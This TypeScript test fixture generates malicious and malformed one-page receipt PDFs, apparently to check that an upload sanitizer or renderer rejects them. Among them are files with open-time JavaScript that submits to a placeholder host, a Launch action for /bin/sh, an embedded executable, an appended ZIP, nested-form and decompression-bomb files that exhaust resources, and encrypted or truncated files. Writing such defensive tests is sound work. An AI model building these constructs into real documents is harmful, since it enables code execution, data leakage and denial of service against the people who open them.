import { deflateSync } from 'node:zlib'
import { latin } from './hostile-files.ts'

type Page = { box?: string; content?: string; resources?: string }
type Pdf = { pages?: Page[]; catalog?: string; trailer?: string; more?: string[] }

const greeting = 'BT /F1 24 Tf 40 700 Td (Comprovante Pix R$ 169,00) Tj ET 1 0 0 rg 40 100 200 50 re f'
/** The object number of the first of `more`. */
export const firstOfMore = 4

/** Builds a PDF from its objects: catalogue, page tree, font, `more`, and the pages with their contents. */
export function pdf({ pages = [{}], catalog = '', trailer = '', more = [] }: Pdf = {}) {
  const first = firstOfMore + more.length
  const kids = pages.map((_, index) => `${first + 2 * index} 0 R`).join(' ')
  return assemble(
    [
      `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
      `<</Type/Pages/Kids[${kids}]/Count ${pages.length}>>`,
      '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
      ...more,
      ...pages.flatMap(({ box = '0 0 420 800', content = greeting, resources = '' }, index) => [
        `<</Type/Page/Parent 2 0 R/MediaBox[${box}]/Resources<</Font<</F1 3 0 R>>${resources}>>/Contents ${first + 2 * index + 1} 0 R>>`,
        stream(content),
      ]),
    ],
    trailer,
  )
}

const stream = (text: string, more = '') => `<<${more}/Length ${text.length}>>\nstream\n${text}\nendstream`

const zipped = (bytes: Uint8Array, more: string) =>
  stream(deflateSync(bytes, { level: 9 }).toString('latin1'), `/Filter/FlateDecode${more}`)

function assemble(objects: string[], trailer: string) {
  let text = '%PDF-1.7\n'
  const places = objects.map((object, index) => {
    const place = text.length
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
    return place
  })
  const table = places.map(place => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  return latin(
    `${text}xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<</Size ${size}/Root 1 0 R${trailer}>>\nstartxref\n${text.length}\n%%EOF\n`,
  )
}

const script = "app.alert('hidden-marker');this.submitForm('https://example.test/hidden-marker');"

/** Every PDF is one page of a receipt with something that must neither run nor survive. */
export const loadedPdfs: Readonly<Record<string, () => Buffer>> = {
  'a script that runs when it is opened': () =>
    pdf({ catalog: `/OpenAction<</S/JavaScript/JS(${script.replaceAll(/[()]/g, '\\$&')})>>` }),
  'an embedded file': () =>
    pdf({
      catalog: '/Names<</EmbeddedFiles<</Names[(hidden-marker.exe) 4 0 R]>>>>',
      more: [
        '<</Type/Filespec/F(hidden-marker.exe)/EF<</F 5 0 R>>>>',
        stream('MZ hidden-marker', '/Type/EmbeddedFile'),
      ],
    }),
  'a program that starts': () => pdf({ catalog: '/OpenAction<</S/Launch/F(/bin/sh)/P(hidden-marker)>>' }),
  'a form that sends itself': () =>
    pdf({ catalog: '/AcroForm<</Fields[]/XFA 4 0 R>>', more: [stream('<xdp>hidden-marker</xdp>')] }),
  'a ZIP archive behind its end': () => Buffer.concat([pdf(), latin('PK\x03\x04\x14\x00hidden-marker')]),
}

const pages = (count: number) => Array.from({ length: count }, () => ({}))

/** Each form draws the next one ten times. */
const nested = (depth: number) =>
  Array.from({ length: depth }, (_, level) => {
    const next = level === depth - 1 ? '0 0 9 9 re f' : '/X Do '.repeat(10)
    return stream(
      next,
      `/Type/XObject/Subtype/Form/BBox[0 0 420 800]/Resources<</XObject<</X ${firstOfMore + level + 1} 0 R>>>>`,
    )
  })

export const uselessPdfs = {
  'an endless page': { make: () => pdf({ pages: [{ box: '0 0 2000000 2000000' }] }), reason: 'too_large' },
  'a page like a tape': { make: () => pdf({ pages: [{ box: '0 0 10 14000' }] }), reason: 'too_large' },
  'many pages': { make: () => pdf({ pages: pages(4) }), reason: 'pages' },
  'a password': {
    make: () =>
      pdf({
        trailer: `/Encrypt<</Filter/Standard/V 1/R 2/P -64/O<${'41'.repeat(32)}>/U<${'42'.repeat(32)}>>>/ID[<00><00>]`,
      }),
    reason: 'locked',
  },
  'only its first half': { make: () => pdf().subarray(0, 300), reason: 'damaged' },
  'only a header': { make: () => latin('%PDF-1.7\n'), reason: 'damaged' },
  'a GIF before its header': { make: () => Buffer.concat([latin('GIF89a'), pdf()]), reason: 'format' },
  HTML: { make: () => latin('<!doctype html><script>alert(1)</script>'), reason: 'format' },
} as const

/** They keep the renderer busy, or fill its memory. */
export const exhaustingPdfs: Readonly<Record<string, () => Buffer>> = {
  'forms inside forms': () =>
    pdf({ more: nested(9), pages: [{ content: '/X Do', resources: '/XObject<</X 4 0 R>>' }] }),
  'a picture of 900 megapixels': () =>
    pdf({
      more: [
        zipped(
          Buffer.alloc(3750 * 30_000),
          '/Type/XObject/Subtype/Image/Width 30000/Height 30000/BitsPerComponent 1/ColorSpace/DeviceGray',
        ),
      ],
      pages: [{ content: '420 0 0 800 0 0 cm /X Do', resources: '/XObject<</X 4 0 R>>' }],
    }),
}
